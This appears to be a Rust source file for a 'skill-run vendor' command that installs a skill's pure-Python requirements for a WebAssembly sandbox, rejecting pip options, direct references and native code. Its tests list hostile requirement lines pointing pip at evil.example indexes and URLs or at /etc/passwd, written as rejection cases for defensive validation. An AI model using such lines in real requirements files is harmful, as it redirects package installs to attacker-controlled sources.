//! `skill-run vendor`: installs a script skill's declared requirements into
//! `vendor/` inside its package, as pure-Python wheels only, so its scripts
//! import them in the sandbox (the Python runner puts `/skill/vendor` on
//! `sys.path`). A requirement that ships native code cannot run in a
//! WebAssembly CPython and is refused by name; nothing in the package
//! changes unless every requirement installed.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use anyhow::{Context, Result, bail};
use clap::Args;
use skill_runtime::package::scripts::VENDOR_DIR;

/// The CPython version of the sandbox's Python runner (componentize-py 0.25.1
/// bundles CPython 3.14): wheels must accept it.
const RUNNER_PYTHON: &str = "3.14";
/// Where requirements are looked for, in order, when `--requirements` is not given.
const REQUIREMENTS: &[&str] = &["requirements.txt", "scripts/requirements.txt"];
/// File endings of native code, which a WebAssembly CPython cannot load.
const NATIVE: &[&str] = &[".so", ".pyd", ".dylib", ".dll"];

/// Arguments of `skill-run vendor`.
#[derive(Args)]
#[command(after_help = "Examples:\n  \
skill-run vendor my-skill\n  \
skill-run vendor my-skill --requirements my-skill/scripts/requirements.txt\n  \
skill-run vendor my-skill -- --index-url https://pypi.example/simple")]
pub struct VendorArgs {
    /// The package folder.
    package: PathBuf,
    /// The requirements file (pip's format) [default: requirements.txt, else
    /// scripts/requirements.txt, in the package].
    #[arg(long, value_name = "FILE")]
    requirements: Option<PathBuf>,
    /// The Python that runs pip (it only downloads and unpacks wheels; the
    /// sandbox's own CPython runs them).
    #[arg(long, value_name = "PATH", default_value = "python3")]
    python: PathBuf,
    /// More pip options (an index, --find-links, --no-index...), after `--`.
    #[arg(last = true, value_name = "PIP-OPTION")]
    pip_options: Vec<String>,
}

/// The requirements file to install.
fn requirements(args: &VendorArgs) -> Result<PathBuf> {
    if let Some(file) = &args.requirements {
        if !file.is_file() {
            bail!("{} is not a file", file.display());
        }
        return Ok(file.clone());
    }
    REQUIREMENTS
        .iter()
        .map(|name| args.package.join(name))
        .find(|path| path.is_file())
        .with_context(|| {
            format!(
                "{} declares no requirements: skill-run vendor installs those listed in {} (pip's format), or give --requirements FILE",
                args.package.display(),
                REQUIREMENTS.join(" or ")
            )
        })
}

/// Whether `tokens` (what follows a requirement on its line) are only
/// `--hash=ALGO:DIGEST` (or `--hash ALGO:DIGEST`) pins, which narrow what
/// pip accepts and so may come from the skill.
fn only_hashes(tokens: &[&str]) -> bool {
    let digest = |d: &str| {
        d.split_once(':').is_some_and(|(algo, hex)| {
            !algo.is_empty()
                && algo.bytes().all(|b| b.is_ascii_alphanumeric())
                && !hex.is_empty()
                && hex.bytes().all(|b| b.is_ascii_hexdigit())
        })
    };
    let mut rest = tokens.iter();
    while let Some(token) = rest.next() {
        let ok = match token.strip_prefix("--hash") {
            Some("") => rest.next().is_some_and(|d| digest(d)),
            Some(value) => value.strip_prefix('=').is_some_and(digest),
            None => false,
        };
        if !ok {
            return false;
        }
    }
    true
}

/// Refuses what a skill's requirements file may not ask pip for: options
/// (`-e`, `-r`, `--index-url`, `--extra-index-url`, `--find-links`,
/// `--trusted-host`...), which would let the skill choose where packages
/// come from or make pip run a VCS client, and direct references (`name @
/// URL`, URLs, paths, archives), which bypass the index. Only names with
/// version specifiers, extras and markers pass, each optionally pinned by
/// `--hash`; whoever runs `vendor` can still give pip options after `--`.
fn check_requirements(text: &str) -> Result<(), String> {
    let joined = text.replace("\\\n", " ");
    for (n, raw) in joined.lines().enumerate() {
        let line = raw.split(" #").next().unwrap_or("").trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        // A requirement, then (after whitespace) its per-line options.
        let tokens: Vec<&str> = line.split_whitespace().collect();
        let first_option = tokens
            .iter()
            .position(|t| t.starts_with('-'))
            .unwrap_or(tokens.len());
        let requirement = tokens[..first_option].join(" ");
        let requirement = requirement.split(';').next().unwrap_or("").trim();
        let why = if line.starts_with('-') || !only_hashes(&tokens[first_option..]) {
            Some(
                "is a pip option; a skill may not choose pip's options or indexes (give them after `--` yourself)",
            )
        } else if requirement.contains("://")
            || requirement.contains('@')
            || requirement.contains('/')
            || requirement.contains('\\')
            || requirement.ends_with(".whl")
            || requirement.ends_with(".zip")
            || requirement.contains(".tar")
        {
            Some(
                "is a direct reference (a URL, a path or an archive); name the package and its version instead",
            )
        } else {
            None
        };
        if let Some(why) = why {
            return Err(format!("line {}: `{line}` {why}", n + 1));
        }
    }
    Ok(())
}

/// The requirement pip could not find a pure-Python wheel for, from its
/// output ("No matching distribution found for NAME").
fn unavailable(pip_output: &str) -> Option<String> {
    pip_output.lines().find_map(|line| {
        line.split_once("No matching distribution found for ")
            .map(|(_, name)| name.trim().to_owned())
    })
}

/// Every file under `dir` with a native-code ending, relative to `dir`.
fn native_files(dir: &Path) -> Result<Vec<String>> {
    let mut found = Vec::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(folder) = pending.pop() {
        for entry in
            std::fs::read_dir(&folder).with_context(|| format!("reading {}", folder.display()))?
        {
            let entry = entry?;
            let kind = entry.file_type()?;
            let path = entry.path();
            if kind.is_dir() {
                pending.push(path);
            } else if NATIVE.iter().any(|end| {
                entry
                    .file_name()
                    .to_string_lossy()
                    .to_ascii_lowercase()
                    .ends_with(end)
            }) {
                found.push(
                    path.strip_prefix(dir)
                        .unwrap_or(&path)
                        .to_string_lossy()
                        .into_owned(),
                );
            }
        }
    }
    found.sort();
    Ok(found)
}

/// The distributions installed in `dir` (`NAME VERSION` from each
/// `*.dist-info` folder), and which of them own `files`.
fn distributions(dir: &Path, files: &[String]) -> (Vec<String>, BTreeSet<String>) {
    let mut installed = Vec::new();
    let mut owners = BTreeSet::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return (installed, owners);
    };
    for entry in entries.flatten() {
        let name = entry.file_name().to_string_lossy().into_owned();
        let Some(stem) = name.strip_suffix(".dist-info") else {
            continue;
        };
        let label = match stem.rsplit_once('-') {
            Some((dist, version)) => format!("{dist} {version}"),
            None => stem.to_owned(),
        };
        let record = std::fs::read_to_string(entry.path().join("RECORD")).unwrap_or_default();
        if record.lines().any(|line| {
            let path = line.split(',').next().unwrap_or("");
            files.iter().any(|f| f == path)
        }) {
            owners.insert(label.clone());
        }
        installed.push(label);
    }
    installed.sort();
    (installed, owners)
}

/// Replaces `package/vendor` with `fresh`; the old folder is removed only
/// once the new one is in place.
fn replace_vendor(package: &Path, fresh: tempfile::TempDir) -> Result<PathBuf> {
    let target = package.join(VENDOR_DIR);
    let old = if std::fs::symlink_metadata(&target).is_ok() {
        let old = tempfile::Builder::new()
            .prefix(".vendor-old-")
            .tempdir_in(package)
            .context("making room for the previous vendor folder")?;
        let moved = old.path().join(VENDOR_DIR);
        std::fs::rename(&target, &moved)
            .with_context(|| format!("moving the previous {} aside", target.display()))?;
        Some((old, moved))
    } else {
        None
    };
    let fresh = fresh.keep();
    if let Err(e) = std::fs::rename(&fresh, &target) {
        if let Some((_, moved)) = &old {
            let _ = std::fs::rename(moved, &target);
        }
        let _ = std::fs::remove_dir_all(&fresh);
        return Err(e).with_context(|| format!("moving the new packages to {}", target.display()));
    }
    Ok(target)
}

/// Runs `skill-run vendor`.
pub fn vendor(args: VendorArgs) -> Result<u8> {
    if !args.package.join("SKILL.md").is_file() && !args.package.join("skill.toml").is_file() {
        bail!(
            "{} is not a skill package (no SKILL.md or skill.toml)",
            args.package.display()
        );
    }
    let requirements = requirements(&args)?;
    let text = std::fs::read_to_string(&requirements)
        .with_context(|| format!("reading {}", requirements.display()))?;
    if let Err(why) = check_requirements(&text) {
        bail!(
            "refusing {}: {why}. Nothing was installed.",
            requirements.display()
        );
    }
    let staging = tempfile::Builder::new()
        .prefix(".vendor-new-")
        .tempdir_in(&args.package)
        .with_context(|| format!("making a staging folder in {}", args.package.display()))?;
    say_err!(
        "installing the requirements in {} as pure-Python wheels for the sandbox's CPython {RUNNER_PYTHON} (pip)...",
        requirements.display()
    );
    let output = Command::new(&args.python)
        .args([
            "-m",
            "pip",
            "install",
            "--disable-pip-version-check",
            "--no-input",
        ])
        .args([
            "--only-binary=:all:",
            "--platform",
            "any",
            "--implementation",
            "py",
        ])
        .args([
            "--python-version",
            RUNNER_PYTHON,
            "--no-compile",
            "--target",
        ])
        .arg(staging.path())
        .arg("--requirement")
        .arg(&requirements)
        .args(&args.pip_options)
        .output()
        .with_context(|| {
            format!(
                "starting `{} -m pip` (install Python 3 with pip, or give --python PATH)",
                args.python.display()
            )
        })?;
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    if !output.status.success() {
        let tail: Vec<&str> = text.lines().rev().take(12).collect();
        let tail: Vec<&str> = tail.into_iter().rev().collect();
        if let Some(name) = unavailable(&text) {
            bail!(
                "cannot vendor `{name}`: it has no pure-Python wheel (py3-none-any) for CPython {RUNNER_PYTHON}, so it ships native code (or only a source archive that may build some), which cannot run in the sandbox's WebAssembly CPython. Nothing in {} changed. Drop it from {} or use a pure-Python alternative.\npip said:\n{}",
                args.package.display(),
                requirements.display(),
                tail.join("\n")
            );
        }
        bail!(
            "pip could not install the requirements in {}; nothing in {} changed.\npip said:\n{}",
            requirements.display(),
            args.package.display(),
            tail.join("\n")
        );
    }
    let native = native_files(staging.path())?;
    let (installed, owners) = distributions(staging.path(), &native);
    if !native.is_empty() {
        bail!(
            "cannot vendor {}: {} native code ({}), which cannot run in the sandbox's WebAssembly CPython. Nothing in {} changed.",
            if owners.is_empty() {
                "these requirements".to_owned()
            } else {
                owners.into_iter().collect::<Vec<_>>().join(", ")
            },
            if native.len() == 1 {
                "it ships"
            } else {
                "they ship"
            },
            native.join(", "),
            args.package.display()
        );
    }
    let target = replace_vendor(&args.package, staging)?;
    say_err!(
        "vendored {} into {}: {}. Scripts import them as usual (the sandbox puts /skill/{VENDOR_DIR} on sys.path). The package's digest changed: sign and approve it again if you use --trust or --lock.",
        if installed.len() == 1 {
            "1 package".to_owned()
        } else {
            format!("{} packages", installed.len())
        },
        target.display(),
        if installed.is_empty() {
            "nothing was required".to_owned()
        } else {
            installed.join(", ")
        }
    );
    Ok(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pips_missing_distribution_is_named() {
        let out = "ERROR: Could not find a version that satisfies the requirement numpy==2.0 (from versions: none)\nERROR: No matching distribution found for numpy==2.0\n";
        assert_eq!(unavailable(out).as_deref(), Some("numpy==2.0"));
        assert_eq!(unavailable("Successfully installed six-1.16.0"), None);
    }

    #[test]
    fn requirements_may_name_packages_but_not_options_or_sources() {
        let pinned = "idna==3.20 \\\n    --hash=sha256:ab7ae7122974553370f0bdb919e1a960b2cd1bc1ef0276416d896db81c14582c\nsix==1.16 --hash sha256:1e61c37477a1626458e36f7b1d82aa5c9b094fa4802892072e49de9c60c4c926 --hash=md5:00ff\n";
        assert_eq!(check_requirements(pinned), Ok(()));
        let ok = "# tools\nrequests==2.32.3\nPyYAML>=6 ; python_version >= \"3.8\"\nrich[jupyter]~=13.0  # pretty\n\n";
        assert_eq!(check_requirements(ok), Ok(()));
        for bad in [
            "--index-url https://evil.example/simple\nrequests",
            "-e git+https://evil.example/x.git#egg=x",
            "-r /etc/passwd",
            "--extra-index-url=https://evil.example",
            "x @ https://evil.example/x-1.0-py3-none-any.whl",
            "https://evil.example/x-1.0-py3-none-any.whl",
            "./local/x-1.0-py3-none-any.whl",
            "x.tar.gz",
            "six\n  --trusted-host evil.example",
            "six --trusted-host evil.example",
            "six --index-url=https://evil.example/simple",
            "six --hash=sha256:abc --no-deps",
            "six --hash",
            "six --hash=sha256:not-hex",
            "six --hash=sha256:/etc/passwd",
        ] {
            assert!(check_requirements(bad).is_err(), "{bad} passed");
        }
        assert!(
            check_requirements("six\n-i https://x")
                .unwrap_err()
                .starts_with("line 2:")
        );
    }

    #[test]
    fn native_files_and_their_owners_are_found() {
        let dir = tempfile::tempdir().expect("dir");
        std::fs::create_dir_all(dir.path().join("fast/_ext")).expect("mkdir");
        std::fs::write(
            dir.path().join("fast/_ext/speed.cpython-314.so"),
            b"\x7fELF",
        )
        .expect("so");
        std::fs::write(dir.path().join("fast/__init__.py"), "").expect("py");
        std::fs::create_dir_all(dir.path().join("fast-1.0.dist-info")).expect("info");
        std::fs::write(
            dir.path().join("fast-1.0.dist-info/RECORD"),
            "fast/__init__.py,,\nfast/_ext/speed.cpython-314.so,,\n",
        )
        .expect("record");
        std::fs::create_dir_all(dir.path().join("plain-2.1.dist-info")).expect("info");
        std::fs::write(
            dir.path().join("plain-2.1.dist-info/RECORD"),
            "plain.py,,\n",
        )
        .expect("record");
        let native = native_files(dir.path()).expect("scan");
        assert_eq!(native, vec!["fast/_ext/speed.cpython-314.so".to_owned()]);
        let (installed, owners) = distributions(dir.path(), &native);
        assert_eq!(
            installed,
            vec!["fast 1.0".to_owned(), "plain 2.1".to_owned()]
        );
        assert_eq!(
            owners.into_iter().collect::<Vec<_>>(),
            vec!["fast 1.0".to_owned()]
        );
    }
}
